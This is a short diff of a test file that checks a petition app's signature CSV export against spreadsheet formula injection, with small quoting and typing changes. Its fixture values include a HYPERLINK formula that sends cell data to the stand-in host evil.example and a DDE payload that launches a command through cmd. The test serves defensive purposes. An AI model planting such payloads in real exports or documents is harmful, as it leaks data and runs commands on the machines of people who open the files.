@@ -177,11 +177,11 @@ test.group('Signatures export', (group) => {
     await addSignature(petition, {
       firstName: 'x;=HYPERLINK("http://evil.example/?"&A1)',
       lastName: 'y\t+1+1',
-      comment: 'fine\n-2+3\r\n@SUM(A1:A9);=cmd|\' /C calc\'!A0',
+      comment: "fine\n-2+3\r\n@SUM(A1:A9);=cmd|' /C calc'!A0",
       customFieldsData: { [district.id]: 'a;-1' },
     })
 
-    const text = (await download(client, petition, owner)).text().slice(1)
+    const text: string = (await download(client, petition, owner)).text().slice(1)
     // Excel in a semicolon locale, and a paste of tab-separated text, split
     // there; the worst reader ignores quotes altogether.
     const pieces = text.split(/[,;\t\r\n]/).map((piece) => piece.replace(/^"+/, ''))
